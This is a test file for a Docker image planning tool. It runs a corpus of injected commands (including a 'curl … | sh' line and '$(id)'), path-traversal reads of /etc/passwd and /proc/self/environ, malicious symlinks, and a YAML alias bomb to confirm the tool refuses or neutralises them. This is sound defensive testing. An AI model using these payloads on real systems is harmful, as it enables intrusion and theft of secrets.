// Hostile and broken input, as an attacker or a careless user would write it: a corpus by class
// (test/support/hostile.ts plans each case in-process, as `npm run plan` does) and a
// property-based test on generated stack files and payload trees. Every case ends in a plan or
// in one line per problem (exit 2); never a stack trace, a hang, a host file's content or an
// environment value in the output; an injection never adds an instruction to a Dockerfile.
// `npx mocha test/hostile.test.ts` prints the counts by class the README gives.
import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import * as path from "node:path";
import fc from "fast-check";
import { stringify } from "yaml";
import { BRANCH_VARIABLES } from "../lib/build/gitFacts";
import { brokenRule, CANARY, type Case, instructionShape, runCase } from "./support/hostile";

const NS = "fireworker-images";
const LOCAL = {
    runtime: { base: "python:3.11-slim-bookworm", requirements: "example/requirements.txt" },
    application: { context: "example" },
};

/** A local stack file with `patch` merged into the example's runtime and application settings. */
function local(patch: { runtime?: object; application?: object; other?: Record<string, unknown> } = {}): string {
    return stringify({
        config: {
            [`${NS}:mode`]: "local",
            [`${NS}:runtime`]: { ...LOCAL.runtime, ...patch.runtime },
            [`${NS}:application`]: { ...LOCAL.application, ...patch.application },
            ...patch.other,
        },
    });
}

// ------------------------------------------------------------------------------ class A ---
/** Strings that try to break out of where a setting lands. */
const INJECTIONS = [
    "x\nRUN curl -s x.example|sh",
    "x\r\nFROM scratch",
    "a\u0000b",
    "$(id)",
    "`id`",
    "x; touch /pwned",
    "x \\",
    'x" && id && "',
    "<<EOF",
    "x".repeat(5000),
    "x\tz",
];

/** Single-line settings and a benign value each, as a patch. */
const TARGETS: [string, (v: string) => Parameters<typeof local>[0]][] = [
    ["runtime.base", (v) => ({ runtime: { base: v } })],
    ["runtime.aptPackages", (v) => ({ runtime: { aptPackages: [v] } })],
    ["runtime.writableDirs", (v) => ({ runtime: { writableDirs: [v] } })],
    ["runtime.env", (v) => ({ runtime: { env: { K: v } } })],
    ["runtime.buildArgs", (v) => ({ runtime: { buildArgs: { K: v } } })],
    ["runtime.pipSteps", (v) => ({ runtime: { pipSteps: [v] } })],
    ["runtime.name", (v) => ({ runtime: { name: v } })],
    ["application.workdir", (v) => ({ application: { workdir: v } })],
    ["application.cmd", (v) => ({ application: { cmd: [v] } })],
    ["application.run", (v) => ({ application: { run: [v] } })],
    ["application.env", (v) => ({ application: { env: { K: v } } })],
    ["application.buildArgs", (v) => ({ application: { buildArgs: { K: v } } })],
    ["application.labels", (v) => ({ application: { labels: { application: v } } })],
    ["application.friendlyTag", (v) => ({ application: { friendlyTag: v } })],
    ["registry.localHost", (v) => ({ other: { [`${NS}:registry`]: { localHost: v } } })],
];
const BENIGN: Record<string, string> = {
    "runtime.base": "python:3.11-slim-bookworm",
    "runtime.aptPackages": "swig",
    "runtime.writableDirs": "/data",
    "runtime.pipSteps": "numpy==1.26.4",
    "runtime.name": "rt",
    "application.workdir": "/srv",
    "application.cmd": "python",
    "application.run": "make",
    "application.friendlyTag": "t1",
    "registry.localHost": "127.0.0.1:5000",
};

// ------------------------------------------------------------------------------ class B ---
const OUTSIDE = [
    "/etc/passwd",
    "/proc/self/environ",
    CANARY.file,
    "../../../../../../../../etc/passwd",
    "~/.bashrc",
    "",
];
const SPECIAL_TREE = {
    "link-out": { symlink: CANARY.file },
    zero: { symlink: "/dev/zero" },
    fifo: { fifo: true as const },
    dev: { device: true as const },
    adir: { dir: true as const },
    loop: { symlink: "loop" },
};
const SPECIAL = ["link-out", "zero", "fifo", "dev", "loop"];
const FILE_SETTINGS: [string, (v: string) => Parameters<typeof local>[0]][] = [
    ["runtime.requirements", (v) => ({ runtime: { requirements: v } })],
    ["runtime.dockerfile", (v) => ({ runtime: { dockerfile: v, requirements: undefined } })],
    ["application.dockerfile", (v) => ({ application: { dockerfile: v } })],
];

function corpus(): Case[] {
    const cases: Case[] = [];
    for (const [target, patch] of TARGETS) {
        for (const v of INJECTIONS) {
            cases.push({
                kind: "injection into a setting",
                what: `${target} = ${JSON.stringify(v).slice(0, 40)}`,
                stack: local(patch(v)),
            });
        }
    }
    for (const [setting, patch] of FILE_SETTINGS) {
        for (const v of OUTSIDE) {
            cases.push({
                kind: "path outside the repository",
                what: `${setting} = ${v}`,
                stack: local(patch(v)),
                refused: true,
            });
        }
        for (const name of [...SPECIAL, "adir"]) {
            cases.push({
                kind: "file that is not a regular file",
                what: `${setting} = ${name}`,
                stack: local(patch(`{{dir}}/${name}`)),
                tree: SPECIAL_TREE,
                refused: true,
            });
        }
    }
    for (const v of ["/etc", "/", "..", "../..", "/proc", "{{dir}}/fifo", "{{dir}}/link-out", "{{dir}}/zero"]) {
        cases.push({
            kind: "path outside the repository",
            what: `application.context = ${v}`,
            stack: local({ application: { context: v } }),
            tree: SPECIAL_TREE,
            refused: true,
        });
    }
    const payload = (tree: Case["tree"], what: string, refused = true) =>
        cases.push({
            kind: "payload tree",
            what,
            stack: local({ application: { context: "{{dir}}/p" } }),
            tree: { "p/main.py": "print(1)\n", ...tree },
            refused,
        });
    payload({ "p/fifo": { fifo: true } }, "a FIFO in the context");
    payload({ "p/dev": { device: true } }, "a device in the context");
    payload({ "p/sock": { socketLike: true } }, "a socket in the context");
    payload({ "p/out": { symlink: CANARY.file } }, "a symlink out of the context (absolute)");
    payload({ "p/up": { symlink: `${"../".repeat(40)}etc/passwd` } }, "a symlink out of the context (relative)");
    // gcloud uploads no broken link, so the build never sees it: left out, nothing read
    payload({ "p/gone": { symlink: "../../../../no/such/file" } }, "a dangling symlink", false);
    payload({ "p/.dockerignore": { symlink: "/dev/zero" } }, ".dockerignore is a symlink to /dev/zero");
    payload({ "p/.dockerignore": { dir: true } }, ".dockerignore is a folder");
    payload({ "p/.gcloudignore": { symlink: CANARY.file } }, ".gcloudignore is a symlink out of the repository");
    payload({ "p/.gcloudignore": "#!include:missing\n" }, "#!include: of a missing file");
    payload({ "p/.gcloudignore": "#!include:sub\n", "p/sub": { dir: true } }, "#!include: of a folder");
    payload({ "p/.gcloudignore": "#!include:../../../../etc/passwd\n" }, "#!include: walking up");
    payload(
        { "p/inner": { symlink: "main.py" }, "p/sp ace é.py": "x\n" },
        "an inner symlink, odd but valid names",
        false,
    );
    payload({ "p/a/b/c/d/e/f/g/h/i/j.py": "x\n" }, "a deep tree", false);

    const reqs = (text: string, what: string, tree: Case["tree"] = {}, refused = true) =>
        cases.push({
            kind: "requirements include",
            what,
            stack: local({ runtime: { requirements: "{{dir}}/req.txt" } }),
            tree: { "req.txt": text, ...SPECIAL_TREE, ...tree },
            refused,
        });
    reqs("-r /etc/passwd\n", "-r an absolute path");
    reqs("-r ../../../../../../etc/passwd\n", "-r walking up");
    reqs("-c link-out\n", "-c a symlink out of the repository");
    reqs("x @ file:///etc/passwd\n", "a file: URL");
    reqs("-r ${HOME}/x.txt\n", "an environment variable in a path");
    reqs("-e /opt/pkg\n", "-e an absolute folder");
    reqs("--find-links /tmp\n", "--find-links an absolute folder");
    reqs("-r fifo\n", "-r a FIFO");
    reqs("-r zero\n", "-r a symlink to /dev/zero");
    reqs("-r adir\n", "-r a folder");
    reqs(`numpy\n${"# padding\n".repeat(120000)}`, "a requirements file past the size limit");
    reqs("-r b.txt\nnumpy\n", "a loop of includes", { "b.txt": "-r req.txt\nscipy\n" }, false);

    const brought = (dockerfile: string, what: string, refused = true, tree: Case["tree"] = {}) =>
        cases.push({
            kind: "brought Dockerfile",
            what,
            stack: stringify({
                config: {
                    [`${NS}:mode`]: "local",
                    [`${NS}:runtime`]: { dockerfile: "{{dir}}/Dockerfile" },
                    [`${NS}:application`]: { context: "example" },
                },
            }),
            tree: { Dockerfile: dockerfile, ...SPECIAL_TREE, ...tree },
            refused,
        });
    const FROM = "ARG from=python:3.11-slim-bookworm\nFROM ${from}\n";
    brought(`${FROM}COPY ../../../../etc/passwd /x\n`, "COPY walking out of the context");
    brought(`${FROM}COPY /proc/self/environ /x\n`, "COPY of an absolute host path");
    brought(`${FROM}COPY link-out /x\n`, "COPY of a symlink out of the repository");
    brought(`${FROM}COPY fifo /x\n`, "COPY of a FIFO");
    brought(`${FROM}COPY zero /x\n`, "COPY of a symlink to /dev/zero");
    brought(`${FROM}${"# pad\n".repeat(30000)}`, "a Dockerfile past what a command carries");
    brought("ARG from=python:3.11-alpine\nFROM ${from}\n", "an Alpine default");
    brought("FROM python:latest\n", "FROM :latest");
    brought("FROM python\n", "FROM without a tag");
    brought(
        `${FROM}ADD https://example.org/x.tgz /x\nCOPY <<EOF /etc/x\nhi\nEOF\n`,
        "ADD of a URL and a heredoc",
        false,
    );
    brought(`${FROM}ONBUILD RUN apt-get install -y x\n`, "ONBUILD RUN apt-get install without update");
    brought(`${FROM}RUN pip3.11 install numpy\n`, "pip3.11 install without --no-cache-dir");

    const file = (text: string | Buffer, what: string, refused = true) =>
        cases.push({
            kind: "stack file",
            what,
            stack: typeof text === "string" ? text : text.toString("latin1"),
            refused,
        });
    file(`config:\n  ${NS}:mode: local\n  ${NS}:mode: team\n`, "a duplicate key");
    file(`config:\n  ${NS}:runtime:\n    base: a\n    base: b\n`, "a duplicate nested key");
    file("config: [\n", "a syntax error");
    file(`a: &a [x]\n${Array.from({ length: 300 }, (_, i) => `b${i}: [*a, *a, *a]`).join("\n")}\n`, "an alias bomb");
    file(`config:\n  x: ${"[".repeat(3000)}${"]".repeat(3000)}\n`, "3000-deep nesting");
    file("- a\n- b\n", "a list instead of a mapping");
    file("just text\n", "a scalar instead of a mapping");
    file("", "an empty file");
    file(`config:\n  ${NS}:registry:\n    localHost:\n      secure: v1:abc\n`, "a secret that names resources");
    file(
        `config:\n  ${NS}:mode: local\n  ${NS}:application:\n    env:\n      K:\n        secure: v1:abc\n`,
        "a secret in a build's settings",
        false,
    );
    file(`config:\n  ${NS}:mode: local\n  ${NS}:runme: {}\n`, "an unknown key");
    file(`config:\n  ${NS}:mode: local\n  ${NS}:runtime: 7\n`, "an object setting that is a number");
    return cases;
}

/** For the suite it is called in: no CI branch variable (one would answer for a detached HEAD), restored after. */
function withoutBranchVariables(): void {
    const saved: Record<string, string | undefined> = {};
    before(() => {
        for (const v of BRANCH_VARIABLES) {
            saved[v] = process.env[v];
            delete process.env[v];
        }
    });
    after(() => {
        for (const [k, v] of Object.entries(saved)) if (v !== undefined) process.env[k] = v;
    });
}

describe("hostile and broken input: the corpus", function () {
    this.timeout(1_800_000);
    const counts = new Map<string, { refused: number; planned: number }>();
    withoutBranchVariables();
    after(() => {
        const rows = [...counts.entries()].map(
            ([k, c]) =>
                `  ${k}: ${c.refused + c.planned} (${c.refused} refused with one line each, ${c.planned} planned safely)`,
        );
        const total = [...counts.values()].reduce((n, c) => n + c.refused + c.planned, 0);
        process.stdout.write(`\n  hostile corpus, ${total} cases, by class:\n${rows.join("\n")}\n`);
    });

    const baselines = new Map<string, string[]>();
    it("has at least 150 cases", () => {
        assert.ok(corpus().length >= 150, String(corpus().length));
    });

    for (const c of corpus()) {
        it(`${c.kind}: ${c.what}`, async () => {
            const r = await runCase(c);
            const broken = brokenRule(r, c.refused === true);
            assert.equal(broken, undefined, `${broken}\n${r.stderr}`);
            if (r.status === 0 && c.kind === "injection into a setting") {
                // the same shape of Dockerfiles as the setting's benign value
                const target = c.what.split(" = ")[0];
                if (!baselines.has(target)) {
                    const patch = TARGETS.find(([t]) => t === target)?.[1];
                    assert.ok(patch);
                    const benign = await runCase({ ...c, stack: local(patch(BENIGN[target] ?? "v")) });
                    assert.equal(benign.status, 0, benign.stderr);
                    baselines.set(target, instructionShape(benign.stdout));
                }
                assert.deepEqual(instructionShape(r.stdout), baselines.get(target), "an injection added instructions");
            }
            const entry = counts.get(c.kind) ?? { refused: 0, planned: 0 };
            entry[r.status === 2 ? "refused" : "planned"] += 1;
            counts.set(c.kind, entry);
        });
    }
});

describe("hostile and broken input: git facts", function () {
    this.timeout(120_000);
    withoutBranchVariables();
    const git = (dir: string, ...a: string[]) =>
        execFileSync("git", ["-c", "user.email=t@e.org", "-c", "user.name=t", ...a], { cwd: dir, stdio: "pipe" });
    const payload = (dir: string) => {
        git(dir, "init", "-q", "-b", "main", "p");
        git(path.join(dir, "p"), "add", ".");
        git(path.join(dir, "p"), "commit", "-qm", "one");
    };
    const stack = local({ application: { context: "{{dir}}/p" } });
    const tree = { "p/main.py": "print(1)\n" };

    /** The payload's repository with its HEAD detached, as a pull request's checkout has it. */
    const detached = (what: string) =>
        runCase({
            kind: "git",
            what,
            stack,
            tree,
            setup: (dir) => {
                payload(dir);
                git(path.join(dir, "p"), "checkout", "-q", "--detach");
            },
        });

    it("a detached HEAD with no CI variable naming the branch is one line", async () => {
        const r = await detached("detached");
        assert.equal(brokenRule(r, true), undefined, r.stderr);
        assert.match(r.stderr, /HEAD is detached and no CI variable names the branch/);
    });

    it("a detached HEAD whose branch a CI variable names: the note goes to stderr, stdout is the plan alone", async () => {
        process.env.GITHUB_HEAD_REF = "feature/x";
        try {
            const r = await detached("detached, branch from CI");
            assert.equal(r.status, 0, r.stderr);
            assert.equal(JSON.parse(r.stdout).stack, "hostile");
            assert.match(r.stderr, /^info: \[runtime\] application: the branch feature\/x comes from GITHUB_HEAD_REF/m);
        } finally {
            delete process.env.GITHUB_HEAD_REF;
        }
    });

    it("a clone too shallow to find the payload's last commit is one line", async () => {
        const r = await runCase({
            kind: "git",
            what: "shallow",
            stack: local({ application: { context: "{{dir}}/q" } }),
            tree,
            setup: (dir) => {
                payload(dir);
                execFileSync(
                    "sh",
                    [
                        "-c",
                        "echo x > README && git add README && git -c user.email=t@e.org -c user.name=t commit -qm two",
                    ],
                    {
                        cwd: path.join(dir, "p"),
                    },
                );
                git(dir, "clone", "-q", "--depth=1", `file://${path.join(dir, "p")}`, "q");
            },
        });
        assert.equal(brokenRule(r, true), undefined, r.stderr);
        assert.match(r.stderr, /too shallow .* git fetch --unshallow/);
    });

    it("a payload in no repository but the program's (ignored there) is marked none, not empty", async () => {
        const r = await runCase({ kind: "git", what: "none", stack, tree });
        assert.equal(r.status, 0, r.stderr);
        assert.match(r.stdout, /git_hash\\":\\"none/);
    });
});

describe("hostile and broken input: generated stack files and trees (fast-check)", function () {
    this.timeout(600_000);

    const hostileString = fc.oneof(
        fc.string({ maxLength: 40 }),
        fc.string({ unit: "binary", maxLength: 40 }),
        fc.constantFrom(...INJECTIONS, ...OUTSIDE, "..", "/", "{{dir}}/fifo", "{{dir}}/out", "[secret]", "${HOME}"),
    );
    const value = fc.oneof(
        hostileString,
        fc.array(hostileString, { maxLength: 3 }),
        fc.dictionary(hostileString, hostileString, { maxKeys: 3 }),
        fc.integer(),
        fc.boolean(),
    );
    const setting = fc.constantFrom(
        "runtime.base",
        "runtime.requirements",
        "runtime.dockerfile",
        "runtime.context",
        "runtime.aptPackages",
        "runtime.env",
        "runtime.buildArgs",
        "runtime.pipSteps",
        "application.context",
        "application.dockerfile",
        "application.labels",
        "application.run",
        "application.cmd",
        "registry.localHost",
        "triggers.branch",
        "teamStack",
        "developer",
        "mode",
    );
    const stackOf = (entries: [string, unknown][]) => {
        const config: Record<string, Record<string, unknown> | unknown> = {
            [`${NS}:mode`]: "local",
            [`${NS}:runtime`]: { ...LOCAL.runtime },
            [`${NS}:application`]: { ...LOCAL.application },
        };
        for (const [key, v] of entries) {
            const [top, nested] = key.split(".");
            if (nested === undefined) config[`${NS}:${top}`] = v;
            else config[`${NS}:${top}`] = { ...(config[`${NS}:${top}`] as object), [nested]: v };
        }
        return stringify({ config });
    };
    const tree = fc.dictionary(
        fc.constantFrom("p/a.py", "p/.dockerignore", "p/.gcloudignore", "p/sub/b", "req.txt", "Dockerfile"),
        fc.oneof(
            fc.string({ maxLength: 60 }),
            fc.constant({ fifo: true as const }),
            fc.constant({ symlink: CANARY.file }),
            fc.constant({ symlink: "/dev/zero" }),
            fc.constantFrom("#!include:../x\n", "-r /etc/passwd\n", "!\n**\n", "FROM x\nCOPY ../../y /\n"),
        ),
        { maxKeys: 4 },
    );

    it("any stack file and tree: a plan, or one line per problem; no stack trace, hang or leak", async () => {
        await fc.assert(
            fc.asyncProperty(fc.array(fc.tuple(setting, value), { maxLength: 4 }), tree, async (entries, files) => {
                const r = await runCase({ kind: "generated", what: "", stack: stackOf(entries), tree: files }, 30_000);
                const broken = brokenRule(r, false);
                if (broken) throw new Error(`${broken}\n${r.stderr}`);
            }),
            // FW_HOSTILE_RUNS and FW_HOSTILE_SEED widen the search (the README gives a wider run)
            {
                numRuns: Number(process.env.FW_HOSTILE_RUNS ?? 60),
                seed: Number(process.env.FW_HOSTILE_SEED ?? 20261129),
            },
        );
    });
});
